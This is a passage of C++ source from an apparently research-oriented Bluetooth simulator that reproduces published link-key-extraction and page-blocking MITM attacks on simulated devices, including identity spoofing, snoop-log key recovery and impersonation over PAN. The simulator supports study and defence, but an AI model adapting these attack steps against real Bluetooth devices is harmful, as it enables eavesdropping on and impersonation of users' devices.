//     lands on A, downgraded to Just Works. Reported with the Fig. 12b flow
//     check on M's HCI dump.
//
//   * baseline_trial() — one "without page blocking" trial: A and C both
//     online with the same BD_ADDR; M pages; the page-scan race decides who
//     gets the connection (the 42–60 % column of Table II).
#pragma once

#include "core/device.hpp"
#include "core/flow_classifier.hpp"
#include "core/profiles.hpp"

namespace blap::core {

struct PageBlockingOptions {
  /// How long A's host holds the PLOC (the paper's PoC uses 10 s).
  SimTime ploc_hold = 10 * kSecond;
  /// When M's user initiates the pairing, relative to PLOC establishment.
  SimTime pairing_delay = 3 * kSecond;
  /// Send L2CAP echo "dummy data" so a long PLOC survives M's idle timeout
  /// (the paper's §VI-B2 keep-alive discussion).
  bool keepalive = false;
  SimTime keepalive_interval = 4 * kSecond;
  /// Overall scenario budget.
  SimTime window = 60 * kSecond;
};

struct PageBlockingReport {
  bool ploc_established = false;       // A's page reached M
  bool pairing_completed = false;      // M's pair() returned success
  bool mitm_established = false;       // ...and the peer is actually A
  bool downgraded_to_just_works = false;
  bool popup_shown = false;            // M's user saw any popup
  bool popup_had_numeric_value = false;
  PairingFlow m_flow = PairingFlow::kNone;  // Fig. 12 classification
  bool attacker_holds_link_key = false;     // persistent impersonation ready
  hci::Status m_pair_status = hci::Status::kSuccess;
  std::string m_flow_table;            // M's dump rendered like Fig. 12
};

class PageBlockingAttack {
 public:
  /// Run the full attack. `accessory` is the legitimate C being impersonated
  /// (present on the air, answering M's inquiry, as in the paper's Fig. 6b).
  static PageBlockingReport run(Simulation& sim, Device& attacker, Device& accessory,
                                Device& target, const PageBlockingOptions& options = {});

  /// One baseline MITM trial without page blocking. Returns true when the
  /// attacker won the page race (M's pairing landed on A).
  static bool baseline_trial(Simulation& sim, Device& attacker, Device& accessory,
                             Device& target);
};

}  // namespace blap::core
