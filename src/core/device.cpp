#include "core/device.hpp"

namespace blap::core {

Device::Device(Scheduler& scheduler, radio::RadioMedium& medium, DeviceSpec spec, Rng rng,
               obs::Observer* observer)
    : medium_(medium), spec_(std::move(spec)) {
  if (spec_.transport == TransportKind::kUsb) {
    auto usb = std::make_unique<transport::UsbTransport>(scheduler);
    usb_transport_ = usb.get();
    transport_ = std::move(usb);
  } else {
    transport_ = std::make_unique<transport::UartTransport>(scheduler);
  }

  controller::ControllerConfig controller_config = spec_.controller;
  controller_config.address = spec_.address;
  controller_config.class_of_device = spec_.class_of_device;
  controller_config.name = spec_.name;
  controller_ =
      std::make_unique<controller::Controller>(scheduler, medium, *transport_,
                                               controller_config, rng.fork());

  host::HostConfig host_config = spec_.host;
  host_config.device_name = spec_.name;
  // A device born into a faulty medium starts with recovery switched on
  // (matching what Simulation::set_fault_plan does for existing devices).
  if (medium.faults_enabled()) host_config.fault_recovery = true;
  host_ = std::make_unique<host::HostStack>(scheduler, *transport_, host_config);
  if (observer != nullptr) set_observer(observer);
  host_->power_on();
}

void Device::set_observer(obs::Observer* observer) {
  controller_->set_observer(observer);
  host_->set_observer(observer);
}

void Device::set_radio_enabled(bool enabled) {
  if (enabled == radio_enabled_) return;
  radio_enabled_ = enabled;
  if (enabled) medium_.attach(controller_.get());
  else medium_.detach(controller_.get());
}

void Device::spoof_identity(const BdAddr& address, ClassOfDevice class_of_device) {
  spec_.address = address;
  spec_.class_of_device = class_of_device;
  controller_->set_address(address);
  controller_->set_class_of_device(class_of_device);
}

void Device::save_state(state::StateWriter& w) const {
  w.boolean(radio_enabled_);
  w.fixed(spec_.address.bytes());
  w.u32(spec_.class_of_device.raw());
  transport_->save_state(w);
  controller_->save_state(w);
  host_->save_state(w);
}

void Device::load_state(state::StateReader& r, state::RestoreMode mode) {
  radio_enabled_ = r.boolean();
  spec_.address = BdAddr(r.fixed<BdAddr::kSize>());
  spec_.class_of_device = ClassOfDevice(r.u32());
  transport_->load_state(r, mode);
  controller_->load_state(r, mode);
  host_->load_state(r, mode);
}

Simulation::Simulation(std::uint64_t seed)
    : rng_(seed), medium_(scheduler_, Rng(seed ^ 0x9E3779B97F4A7C15ULL)) {}

Device& Simulation::add_device(DeviceSpec spec) {
  devices_.push_back(std::make_unique<Device>(scheduler_, medium_, std::move(spec),
                                              rng_.fork(), obs_.get()));
  // Let power-on traffic (Reset, Read_BD_ADDR, ...) drain.
  scheduler_.run_for(10 * kMillisecond);
  return *devices_.back();
}

void Simulation::set_fault_plan(faults::FaultPlan plan) {
  medium_.set_fault_plan(std::move(plan));
  const bool enabled = medium_.faults_enabled();
  for (const auto& device : devices_) {
    device->controller().refresh_fault_state();
    device->host().config().fault_recovery = enabled;
  }
}

void Simulation::reseed(std::uint64_t seed) {
  // Mirrors construction exactly: Simulation(seed) seeds rng_ and the
  // medium's jitter stream, then each add_device() forks a device stream
  // whose own fork feeds the controller (the host draws no randomness).
  rng_ = Rng(seed);
  medium_.set_rng(Rng(seed ^ 0x9E3779B97F4A7C15ULL));
  for (const auto& device : devices_) {
    Rng device_rng = rng_.fork();
    device->controller().set_rng(device_rng.fork());
  }
}

std::vector<radio::RadioEndpoint*> Simulation::endpoint_roster() {
  std::vector<radio::RadioEndpoint*> roster;
  roster.reserve(devices_.size());
  for (const auto& device : devices_) roster.push_back(&device->controller());
  return roster;
}

obs::Observer& Simulation::enable_observability(obs::ObsConfig config) {
  obs_ = std::make_unique<obs::Observer>(config);
  scheduler_.set_hook(obs_.get());
  medium_.set_observer(obs_.get());
  for (const auto& device : devices_) device->set_observer(obs_.get());
  return *obs_;
}

}  // namespace blap::core
