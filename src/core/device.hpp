// device.hpp — assembling complete Bluetooth devices and simulations.
//
// A Device is the full stack of one physical unit: host ⟷ transport
// (UART or USB) ⟷ controller ⟷ radio. A Simulation owns the shared
// scheduler, the radio medium, and any number of devices — the A/M/C
// three-device system model of the paper's §III.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "controller/controller.hpp"
#include "host/host.hpp"
#include "obs/obs.hpp"
#include "radio/radio_medium.hpp"
#include "transport/uart_transport.hpp"
#include "transport/usb_transport.hpp"

namespace blap::core {

enum class TransportKind : std::uint8_t {
  kUart,  // controller-type chipset inside a phone
  kUsb,   // PC + USB dongle ("QSENN CSR V4.0")
};

struct DeviceSpec {
  std::string name = "device";
  BdAddr address;
  ClassOfDevice class_of_device{ClassOfDevice::kMobilePhone};
  TransportKind transport = TransportKind::kUart;
  host::HostConfig host;
  /// Controller knobs; address/COD/name are overwritten from the fields
  /// above during assembly.
  controller::ControllerConfig controller;
};

class Device {
 public:
  /// `observer` may be null (observability off). When set, the controller
  /// and host are wired before power-on so even the Reset/Read_BD_ADDR
  /// bring-up traffic is observed.
  Device(Scheduler& scheduler, radio::RadioMedium& medium, DeviceSpec spec, Rng rng,
         obs::Observer* observer = nullptr);

  [[nodiscard]] host::HostStack& host() { return *host_; }
  [[nodiscard]] const host::HostStack& host() const { return *host_; }
  [[nodiscard]] controller::Controller& controller() { return *controller_; }
  [[nodiscard]] transport::HciTransport& transport() { return *transport_; }
  /// Non-null only for USB devices — where a sniffer can attach.
  [[nodiscard]] transport::UsbTransport* usb_transport() { return usb_transport_; }
  [[nodiscard]] const DeviceSpec& spec() const { return spec_; }
  [[nodiscard]] const BdAddr& address() const { return spec_.address; }

  /// Take the device on/off the air (a powered-down or out-of-range unit).
  void set_radio_enabled(bool enabled);
  [[nodiscard]] bool radio_enabled() const { return radio_enabled_; }

  /// Rewrite the radio identity (the paper's BDADDR/COD spoofing via
  /// /persist/bdaddr.txt + bt_target.h).
  void spoof_identity(const BdAddr& address, ClassOfDevice class_of_device);

  /// Attach (or detach, with nullptr) the simulation's observer to the
  /// controller and host of this device.
  void set_observer(obs::Observer* observer);

  /// Snapshot support: the device flags plus transport, controller and host
  /// state in fixed order. The medium's attachment list is serialized by
  /// the medium itself, so load_state only restores the local flag.
  [[nodiscard]] bool quiescent() const {
    return controller_->quiescent() && host_->quiescent();
  }
  void save_state(state::StateWriter& w) const;
  void load_state(state::StateReader& r, state::RestoreMode mode);

 private:
  radio::RadioMedium& medium_;
  DeviceSpec spec_;
  std::unique_ptr<transport::HciTransport> transport_;
  transport::UsbTransport* usb_transport_ = nullptr;
  std::unique_ptr<controller::Controller> controller_;
  std::unique_ptr<host::HostStack> host_;
  bool radio_enabled_ = true;
};

class Simulation {
 public:
  explicit Simulation(std::uint64_t seed);

  [[nodiscard]] Scheduler& scheduler() { return scheduler_; }
  [[nodiscard]] radio::RadioMedium& medium() { return medium_; }
  [[nodiscard]] Rng& rng() { return rng_; }

  /// Create, power on, and register a device.
  Device& add_device(DeviceSpec spec);

  [[nodiscard]] std::vector<std::unique_ptr<Device>>& devices() { return devices_; }

  void run_for(SimTime duration) { scheduler_.run_for(duration); }
  void run_until_idle() { scheduler_.run_all(); }
  [[nodiscard]] SimTime now() const { return scheduler_.now(); }

  /// Install (or clear, with a default-constructed plan) the fault plan on
  /// the shared medium and switch every device's recovery machinery
  /// accordingly: supervision timers are (re)armed on live links and host
  /// fault recovery (watchdog + pairing retry) follows plan.enabled().
  /// Devices added later pick the state up at construction. With a disabled
  /// plan the whole layer is inert and outputs stay byte-identical.
  void set_fault_plan(faults::FaultPlan plan);
  [[nodiscard]] const faults::FaultPlan& fault_plan() const { return medium_.fault_plan(); }

  /// Turn on tracing and/or metrics for this simulation. Devices added
  /// before and after the call are both wired. Off by default: without
  /// this call every instrumentation site in the stack is a single
  /// never-taken branch on a null pointer.
  obs::Observer& enable_observability(obs::ObsConfig config);
  /// Null unless enable_observability() was called.
  [[nodiscard]] obs::Observer* observer() { return obs_.get(); }

  /// Per-trial reseed: re-derive every Rng stream exactly as construction
  /// would for `seed`. Scenario setup consumes no random draws, so a
  /// restored warm snapshot plus reseed(trial_seed) is byte-identical to a
  /// fresh build with that seed.
  void reseed(std::uint64_t seed);

  /// The canonical endpoint roster — every device's controller in device
  /// order. Snapshots identify endpoints by index into this list.
  [[nodiscard]] std::vector<radio::RadioEndpoint*> endpoint_roster();

 private:
  Scheduler scheduler_;
  Rng rng_;
  radio::RadioMedium medium_;
  std::unique_ptr<obs::Observer> obs_;
  std::vector<std::unique_ptr<Device>> devices_;
};

}  // namespace blap::core
