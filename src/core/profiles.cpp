#include "core/profiles.hpp"

namespace blap::core {

DeviceSpec DeviceProfile::to_spec(const std::string& device_name, const BdAddr& address,
                                  ClassOfDevice cod) const {
  DeviceSpec spec;
  spec.name = device_name;
  spec.address = address;
  spec.class_of_device = cod;
  spec.transport = transport;
  spec.host.version = version;
  spec.host.hci_dump_available = hci_dump_available;
  // Bluetooth 4.1+ stacks support Secure Connections; the v5.0 profile rows
  // therefore pair on P-256 and authenticate with h4/h5. Both attacks work
  // regardless (they never touch the cryptography).
  spec.controller.secure_connections = version == host::BtVersion::kV5_0;
  return spec;
}

const std::vector<DeviceProfile>& table1_profiles() {
  static const std::vector<DeviceProfile> profiles = {
      {"Nexus 5x", "Android 8", "Bluedroid", host::BtVersion::kV4_2, TransportKind::kUart, true,
       false, 0.0},
      {"LG V50", "Android 9", "Bluedroid", host::BtVersion::kV5_0, TransportKind::kUart, true,
       false, 0.0},
      {"Galaxy S8", "Android 9", "Bluedroid", host::BtVersion::kV5_0, TransportKind::kUart, true,
       false, 0.0},
      {"Pixel 2 XL", "Android 11", "Bluedroid", host::BtVersion::kV5_0, TransportKind::kUart,
       true, false, 0.0},
      {"LG VELVET", "Android 11", "Bluedroid", host::BtVersion::kV5_0, TransportKind::kUart,
       true, false, 0.0},
      {"Galaxy s21", "Android 11", "Bluedroid", host::BtVersion::kV5_0, TransportKind::kUart,
       true, false, 0.0},
      {"QSENN CSR V4.0", "Windows 10", "Microsoft Bluetooth Driver", host::BtVersion::kV5_0,
       TransportKind::kUsb, false, false, 0.0},
      {"QSENN CSR V4.0", "Windows 10", "CSR harmony", host::BtVersion::kV5_0,
       TransportKind::kUsb, false, false, 0.0},
      {"QSENN CSR V4.0", "Ubuntu 20.04", "BlueZ", host::BtVersion::kV5_0, TransportKind::kUsb,
       true, true, 0.0},
  };
  return profiles;
}

const std::vector<DeviceProfile>& table2_profiles() {
  static const std::vector<DeviceProfile> profiles = {
      {"iPhone Xs", "iOS 14.4.2", "Apple", host::BtVersion::kV5_0, TransportKind::kUart,
       false /* iOS provides no HCI dump (paper analyzed A's dump instead) */, false, 0.52},
      {"Nexus 5x", "Android 8", "Bluedroid", host::BtVersion::kV4_2, TransportKind::kUart, true,
       false, 0.52},
      {"LG V50", "Android 9", "Bluedroid", host::BtVersion::kV5_0, TransportKind::kUart, true,
       false, 0.57},
      {"Galaxy S8", "Android 9", "Bluedroid", host::BtVersion::kV5_0, TransportKind::kUart, true,
       false, 0.42},
      {"Pixel 2 XL", "Android 11", "Bluedroid", host::BtVersion::kV5_0, TransportKind::kUart,
       true, false, 0.60},
      {"LG VELVET", "Android 11", "Bluedroid", host::BtVersion::kV5_0, TransportKind::kUart,
       true, false, 0.60},
      {"Galaxy s21", "Android 11", "Bluedroid", host::BtVersion::kV5_0, TransportKind::kUart,
       true, false, 0.51},
  };
  return profiles;
}

DeviceProfile attacker_profile() {
  return {"Nexus 5x (attacker)", "Android 6", "Bluedroid (modified)", host::BtVersion::kV4_2,
          TransportKind::kUart, true, false, 0.0};
}

DeviceProfile accessory_profile() {
  return {"Car-kit headset", "RTOS", "Vendor stack", host::BtVersion::kV4_2,
          TransportKind::kUart, false, false, 0.0};
}

SimTime accessory_interval_for_bias(double attacker_win_probability, SimTime attacker_interval) {
  const double p = attacker_win_probability;
  const double a = static_cast<double>(attacker_interval);
  double c;
  if (p <= 0.5) {
    // P(A first) = c / (2a) for c <= a.
    c = 2.0 * p * a;
  } else {
    // P(A first) = 1 - a / (2c) for c >= a.
    c = a / (2.0 * (1.0 - p));
  }
  if (c < 1.0) c = 1.0;
  return static_cast<SimTime>(c);
}

}  // namespace blap::core
