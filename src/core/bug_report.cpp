#include "core/bug_report.hpp"

#include "common/base64.hpp"
#include "common/log.hpp"

namespace blap::core {

namespace {
constexpr const char* kSnoopBegin = "--- BEGIN:BTSNOOP (base64) ---";
constexpr const char* kSnoopEnd = "--- END:BTSNOOP ---";
}  // namespace

std::string generate_bug_report(const Device& device, SimTime at) {
  const auto& host = device.host();
  std::string report;
  report += "========================================================\n";
  report += "== dumpstate (simulated Android bug report)\n";
  report += "========================================================\n";
  report += strfmt("uptime: %llu us (virtual)\n", static_cast<unsigned long long>(at));
  report += "[ro.product.model]: [" + device.spec().name + "]\n";
  report += "[ro.bt.bdaddr_path]: [/persist/bdaddr.txt]\n";
  report += "bdaddr: " + device.address().to_string() + "\n";
  report += "\n-------- DUMP OF SERVICE bluetooth_manager --------\n";
  report += strfmt("  enabled: true\n  bonded devices: %zu\n",
                   host.security().bond_count());
  for (const auto& bond : host.security().bonds()) {
    // The dumpsys section lists peers but never keys — the key leak is in
    // the snoop attachment below, which is the paper's whole point.
    report += "    " + bond.address.to_string() +
              (bond.name.empty() ? "" : " (" + bond.name + ")") + "\n";
  }
  report += strfmt("  hci snoop log: %s\n", host.snoop_enabled() ? "enabled" : "disabled");

  if (host.snoop_enabled()) {
    const Bytes snoop = host.snoop().serialize();
    report += "\n-------- BLUETOOTH HCI SNOOP LOG (data/misc/bluedroid/logs) --------\n";
    report += kSnoopBegin;
    report += "\n";
    report += base64_encode(snoop, 76);
    if (report.back() != '\n') report += "\n";
    report += kSnoopEnd;
    report += "\n";
  }
  report += "\n-------- end of report --------\n";
  return report;
}

std::optional<hci::SnoopLog> extract_snoop_from_bug_report(const std::string& report) {
  const auto begin = report.find(kSnoopBegin);
  if (begin == std::string::npos) return std::nullopt;
  const auto body_start = begin + std::string(kSnoopBegin).size();
  const auto end = report.find(kSnoopEnd, body_start);
  if (end == std::string::npos) return std::nullopt;
  const auto decoded = base64_decode(report.substr(body_start, end - body_start));
  if (!decoded) return std::nullopt;
  return hci::SnoopLog::parse(*decoded);
}

}  // namespace blap::core
