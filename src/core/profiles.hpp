// profiles.hpp — the device matrix of the paper's evaluation (§VI).
//
// Every tested unit from Table I (link key extraction) and Table II (page
// blocking) is modelled as a DeviceProfile: OS, host stack, Bluetooth
// version regime, transport kind, whether the platform offers an HCI dump,
// whether superuser privilege is needed for the extraction, and — for the
// Table II victims — the measured baseline MITM success rate that calibrates
// the page-race timing model.
#pragma once

#include <string>
#include <vector>

#include "core/device.hpp"

namespace blap::core {

struct DeviceProfile {
  std::string model;       // "Nexus 5x"
  std::string os;          // "Android 8"
  std::string host_stack;  // "Bluedroid" / "Microsoft Bluetooth Driver" / ...
  host::BtVersion version = host::BtVersion::kV5_0;
  TransportKind transport = TransportKind::kUart;
  bool hci_dump_available = true;
  /// Table I rightmost column: does extraction need superuser privilege?
  bool su_required = false;
  /// Table II column 1 (fraction); 0 when the device is not a Table II row.
  double baseline_mitm_success = 0.0;

  /// Build a DeviceSpec for this profile with the given identity.
  [[nodiscard]] DeviceSpec to_spec(const std::string& device_name, const BdAddr& address,
                                   ClassOfDevice cod = ClassOfDevice(
                                       ClassOfDevice::kMobilePhone)) const;
};

/// The nine Table I rows (vulnerable to link key extraction).
[[nodiscard]] const std::vector<DeviceProfile>& table1_profiles();

/// The seven Table II victim rows (page blocking success rates).
[[nodiscard]] const std::vector<DeviceProfile>& table2_profiles();

/// The attacker device of the paper's testbed: Nexus 5x, Android 6,
/// modified bluedroid.
[[nodiscard]] DeviceProfile attacker_profile();

/// A typical soft-target accessory C: a hands-free car-kit / headset.
[[nodiscard]] DeviceProfile accessory_profile();

/// Convert a Table II baseline success probability p = P(attacker answers
/// the page first) into the accessory's page-scan interval, given the
/// attacker's interval. With latencies uniform over each interval:
///   p <= 1/2 :  c = 2 p a      (accessory scans faster, usually wins)
///   p >  1/2 :  c = a / (2(1-p))
[[nodiscard]] SimTime accessory_interval_for_bias(double attacker_win_probability,
                                                  SimTime attacker_interval);

}  // namespace blap::core
