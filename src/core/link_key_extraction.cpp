#include "core/link_key_extraction.hpp"

#include "common/log.hpp"
#include "core/bug_report.hpp"

namespace blap::core {

LinkKeyExtractionReport LinkKeyExtractionAttack::run(Simulation& sim, Device& attacker,
                                                     Device& accessory, Device& target,
                                                     const LinkKeyExtractionOptions& options) {
  LinkKeyExtractionReport report;
  report.capture_channel = options.use_usb_sniff ? "USB sniff" : "HCI dump";

  const BdAddr m_addr = target.address();
  const BdAddr c_addr = accessory.address();
  const ClassOfDevice m_cod = target.spec().class_of_device;
  const ClassOfDevice c_cod = accessory.spec().class_of_device;

  obs::Observer* obs = sim.observer();
  const std::uint32_t a_tid = obs != nullptr ? obs->device_tid(attacker.spec().name) : 0;
  if (obs != nullptr) obs->count("attack.extraction.runs");

  // --- Precondition: C and M are bonded (the paper's testbed state). -------
  {
    const std::uint64_t bond_span =
        obs != nullptr ? obs->begin_span(sim.now(), a_tid, obs::Layer::kAttack,
                                         "precondition_bond", "legitimate C<->M pairing")
                       : 0;
    // Keep the attacker off the air while the legitimate bond forms.
    attacker.set_radio_enabled(false);
    bool paired = false;
    accessory.host().pair(m_addr, [&](hci::Status status) {
      paired = status == hci::Status::kSuccess;
    });
    sim.run_for(10 * kSecond);
    if (obs != nullptr && bond_span != 0)
      obs->end_span(sim.now(), bond_span, paired ? "bond established" : "FAILED");
    if (!paired) {
      BLAP_ERROR("attack", "precondition pairing C<->M failed");
      return report;
    }
    accessory.host().disconnect(m_addr);
    sim.run_for(kSecond);
  }
  report.bonded_precondition = accessory.host().security().is_bonded(m_addr) &&
                               target.host().security().is_bonded(c_addr);
  const auto real_key = accessory.host().security().link_key_for(m_addr);
  if (!report.bonded_precondition || !real_key) return report;

  // --- Step 1: arrange HCI recording on C. ---------------------------------
  std::unique_ptr<transport::UsbSniffer> sniffer;
  if (options.use_usb_sniff) {
    auto* usb = accessory.usb_transport();
    if (usb == nullptr) {
      BLAP_ERROR("attack", "USB sniff requested but %s has no USB transport",
                 accessory.spec().name.c_str());
      return report;
    }
    sniffer = std::make_unique<transport::UsbSniffer>(*usb, &sim.rng());
  } else {
    accessory.host().enable_snoop(true);
  }
  if (obs != nullptr && obs->tracing())
    obs->instant(sim.now(), a_tid, obs::Layer::kAttack, "step1_capture_armed",
                 strfmt("recording C's HCI traffic via %s", report.capture_channel.c_str()));

  // --- Steps 2 & 5: A impersonates M; A's host will stall the key request.
  target.set_radio_enabled(false);  // M is elsewhere during the attack
  attacker.set_radio_enabled(true);
  attacker.spoof_identity(m_addr, m_cod);
  if (obs != nullptr && obs->tracing())
    obs->instant(sim.now(), a_tid, obs::Layer::kAttack, "step2_impersonate_m",
                 strfmt("A answers as M (%s); key request will %s", m_addr.to_string().c_str(),
                        options.answer_with_wrong_key ? "get a bogus key" : "be stalled"));
  if (options.answer_with_wrong_key) {
    // Ablation: respond to the challenge with a bogus key instead.
    host::BondRecord bogus;
    bogus.address = c_addr;
    bogus.name = accessory.spec().name;
    Rng wrong_key_rng(0xBAD);
    bogus.link_key = crypto::random_link_key(wrong_key_rng);
    attacker.host().security().store_bond(std::move(bogus));
  } else {
    attacker.host().hooks().ignore_link_key_request = true;  // Fig. 9
  }

  // --- Step 3: C initiates reconnection + LMP authentication toward "M". ---
  const std::uint64_t reconnect_span =
      obs != nullptr ? obs->begin_span(sim.now(), a_tid, obs::Layer::kAttack,
                                       "step3_reconnect_auth",
                                       "C reconnects; its LinkKeyRequestReply is the capture")
                     : 0;
  bool c_completed = false;
  hci::Status c_status = hci::Status::kSuccess;
  accessory.host().pair(m_addr, [&](hci::Status status) {
    c_completed = true;
    c_status = status;
  });
  sim.run_for(options.attack_window);
  report.c_auth_status = c_completed ? c_status : hci::Status::kConnectionTimeout;
  if (obs != nullptr && reconnect_span != 0)
    obs->end_span(sim.now(), reconnect_span,
                  strfmt("C's auth ended: %s", to_string(report.c_auth_status)));

  // --- Step 5 outcome: did C keep its bond? ---------------------------------
  report.c_bond_survived = accessory.host().security().is_bonded(m_addr);
  if (obs != nullptr)
    obs->count(report.c_bond_survived ? "attack.extraction.bond_survived"
                                      : "attack.extraction.bond_lost");

  // --- Step 6: extract the key from the capture. ----------------------------
  std::optional<ExtractedKey> extracted;
  if (options.use_usb_sniff) {
    const UsbExtractionResult usb = run_usb_extraction(*sniffer);
    report.keys_in_capture = usb.keys.size();
    for (const auto& key : usb.keys)
      if (key.peer == m_addr) extracted = key;
  } else {
    // The snoop file itself lives in an inaccessible directory; the attacker
    // pulls it through an Android bug report (paper §IV-A, ref [22]).
    const std::string bug_report = generate_bug_report(accessory, sim.now());
    const auto snoop = extract_snoop_from_bug_report(bug_report);
    if (!snoop) {
      BLAP_ERROR("attack", "bug report carried no usable snoop attachment");
      return report;
    }
    const auto keys = extract_link_keys(*snoop);
    report.keys_in_capture = keys.size();
    extracted = extract_link_key_for(*snoop, m_addr);
  }
  if (extracted) {
    report.key_extracted = true;
    report.extracted_key = extracted->key;
    report.key_source = extracted->source;
    report.key_matches_bond = extracted->key == *real_key;
  }
  if (obs != nullptr) {
    obs->count(report.key_extracted ? "attack.extraction.keys_extracted"
                                    : "attack.extraction.no_key_in_capture");
    if (obs->tracing())
      obs->instant(sim.now(), a_tid, obs::Layer::kAttack, "step6_extract",
                   report.key_extracted
                       ? strfmt("link key recovered from %s (%zu keys in capture)",
                                to_string(report.key_source), report.keys_in_capture)
                       : std::string("capture held no usable key"));
  }

  // Undo the attack-phase manipulation.
  attacker.host().hooks().ignore_link_key_request = false;

  // --- Step 7: impersonate C against M; validate over PAN. ------------------
  if (options.validate_by_impersonation && report.key_extracted) {
    report.impersonation_attempted = true;
    const std::uint64_t validate_span =
        obs != nullptr ? obs->begin_span(sim.now(), a_tid, obs::Layer::kAttack,
                                         "step7_validate_impersonation",
                                         "A installs the extracted key as C's bond, opens PAN")
                       : 0;
    accessory.set_radio_enabled(false);  // the real C is out of range
    target.set_radio_enabled(true);

    // Fake bonding info (paper Fig. 10): M's address, the extracted key,
    // and the PAN service UUIDs — written as bt_config.conf and installed.
    host::SecurityManager fake;
    host::BondRecord bond;
    bond.address = m_addr;
    bond.name = target.spec().name;
    bond.link_key = report.extracted_key;
    bond.services = {Uuid::from_uuid16(uuid16::kPanu), Uuid::from_uuid16(uuid16::kNap)};
    fake.store_bond(std::move(bond));
    // Round-trip through the config-file format, as the real attack edits
    // the file on disk ("turn Bluetooth off and on" = stack reload).
    attacker.host().install_security(
        host::SecurityManager::from_bt_config(fake.to_bt_config()));
    attacker.spoof_identity(c_addr, c_cod);

    const std::size_t pairings_before = target.host().pairing_events().size();
    bool pan_done = false;
    bool pan_ok = false;
    attacker.host().connect_pan(m_addr, [&](bool connected) {
      pan_done = true;
      pan_ok = connected;
    });
    sim.run_for(15 * kSecond);
    const bool new_pairing_happened =
        target.host().pairing_events().size() > pairings_before;
    report.impersonation_succeeded = pan_done && pan_ok && !new_pairing_happened;
    report.impersonation_repaired = new_pairing_happened;
    if (obs != nullptr) {
      obs->count(report.impersonation_succeeded ? "attack.extraction.impersonation_success"
                                                : "attack.extraction.impersonation_failed");
      if (validate_span != 0)
        obs->end_span(sim.now(), validate_span,
                      report.impersonation_succeeded
                          ? "PAN opened on the stolen key, no re-pairing"
                          : (new_pairing_happened ? "M forced a fresh pairing"
                                                  : "PAN setup failed"));
    }
  }

  return report;
}

}  // namespace blap::core
