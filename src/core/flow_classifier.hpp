// flow_classifier.hpp — recognizing the paper's Fig. 12 HCI flows.
//
// The paper validates page blocking by inspecting the victim's HCI dump:
// under attack, M is simultaneously the *pairing initiator*
// (HCI_Authentication_Requested command) and the *connection responder*
// (HCI_Connection_Request event + HCI_Accept_Connection_Request command) —
// a combination a normal M-initiated pairing never produces (it begins with
// HCI_Create_Connection instead).
#pragma once

#include <string>

#include "hci/snoop.hpp"

namespace blap::core {

enum class PairingFlow : std::uint8_t {
  kNone,               // no pairing activity in the log
  kNormal,             // Fig. 12a: Create_Connection then pairing
  kPageBlocked,        // Fig. 12b: Connection_Request/Accept then pairing
  kInconsistent,       // pairing activity with neither signature
};

[[nodiscard]] const char* to_string(PairingFlow flow);

struct FlowAnalysis {
  PairingFlow flow = PairingFlow::kNone;
  bool saw_create_connection = false;
  bool saw_connection_request = false;
  bool saw_accept_connection = false;
  bool saw_authentication_requested = false;
  bool saw_link_key_negative_reply = false;
  bool saw_io_capability_request = false;
  /// Index (1-based frame) of the first pairing command, 0 if none.
  std::size_t pairing_frame = 0;
};

/// Classify the pairing flow recorded in a victim-side HCI dump.
[[nodiscard]] FlowAnalysis classify_pairing_flow(const hci::SnoopLog& log);

}  // namespace blap::core
