// snoop_extractor.hpp — pulling link keys out of an HCI dump (attack §IV-A).
//
// Exactly the analysis the paper performs on the log pulled via Android's
// bug report: scan every record for the two key-bearing HCI messages —
// HCI_Link_Key_Request_Reply (host → controller) and
// HCI_Link_Key_Notification (controller → host) — and decode the peer
// address plus the 128-bit key from their plaintext payloads.
#pragma once

#include <vector>

#include "common/bdaddr.hpp"
#include "crypto/keys.hpp"
#include "hci/snoop.hpp"

namespace blap::core {

enum class KeySource : std::uint8_t {
  kLinkKeyRequestReply,  // host answered the controller's request
  kLinkKeyNotification,  // controller delivered a fresh key
};

[[nodiscard]] const char* to_string(KeySource source);

struct ExtractedKey {
  BdAddr peer;
  crypto::LinkKey key{};
  KeySource source = KeySource::kLinkKeyRequestReply;
  SimTime timestamp_us = 0;
  std::size_t frame_index = 0;  // 1-based frame number in the dump
};

/// Scan a snoop log for link keys. Returns every occurrence in order.
[[nodiscard]] std::vector<ExtractedKey> extract_link_keys(const hci::SnoopLog& log);

/// Convenience: the most recent key for a specific peer, if any.
[[nodiscard]] std::optional<ExtractedKey> extract_link_key_for(const hci::SnoopLog& log,
                                                               const BdAddr& peer);

}  // namespace blap::core
