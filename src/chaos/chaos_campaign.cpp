#include "chaos/chaos_campaign.hpp"

#include <algorithm>
#include <atomic>
#include <cstdio>
#include <filesystem>
#include <memory>
#include <set>
#include <utility>

#include "campaign/campaign.hpp"
#include "snapshot/replay.hpp"
#include "snapshot/snapshot.hpp"

namespace blap::campaign {
namespace {

/// Distinguishes sweeps so a pooled worker (or the calling thread under
/// jobs=1) never reuses a warm scenario across run_chaos_campaign() calls.
std::atomic<std::uint64_t> g_chaos_epoch{0};

struct WorkerState {
  std::uint64_t epoch = 0;
  /// A failed restore (the snapshot.load.* failpoints) can leave the
  /// simulation half-restored; the next trial on this worker rebuilds.
  bool dirty = false;
  snapshot::Scenario scenario;
};

void json_escape_into(std::string& out, const std::string& text) {
  for (const char c : text) {
    if (c == '"' || c == '\\') {
      out += '\\';
      out += c;
    } else if (c == '\n') {
      out += "\\n";
    } else {
      out += c;
    }
  }
}

}  // namespace

ChaosCampaignReport run_chaos_campaign(const ChaosCampaignConfig& config) {
  ChaosCampaignReport report;

  // Canonical bonded warm snapshot, captured once on the calling thread:
  // what the baseline and every trial fork from, and what recorded bundles
  // embed — identical for any worker count.
  snapshot::Scenario probe = snapshot::build_scenario(config.seed, config.scenario);
  snapshot::bonded_warm_setup(probe);
  std::string why;
  const auto warm = snapshot::Snapshot::capture(*probe.sim, &why);
  if (!warm.has_value()) {
    report.fallback_reason = why;
    return report;
  }
  report.explored = true;

  // Phase 1: recorder baseline. Runs the full trial body with every
  // failpoint counting and none firing — the hit map IS the explorable
  // surface, and the baseline also proves the fault-free trial drains clean.
  auto recorder = chaos::ChaosPlan::recorder();
  report.baseline = snapshot::run_chaos_trial(probe, *warm, config.seed, recorder);

  // Phase 2: enumerate instances. Site-name order (the hit map is ordered),
  // ordinals from the front.
  report.sites = report.baseline.hits.size();
  std::vector<std::vector<chaos::FaultSite>> armed;
  for (const auto& [site, count] : report.baseline.hits) {
    const std::uint64_t cap = std::min<std::uint64_t>(count, config.ordinal_cap);
    for (std::uint64_t ordinal = 0; ordinal < cap; ++ordinal)
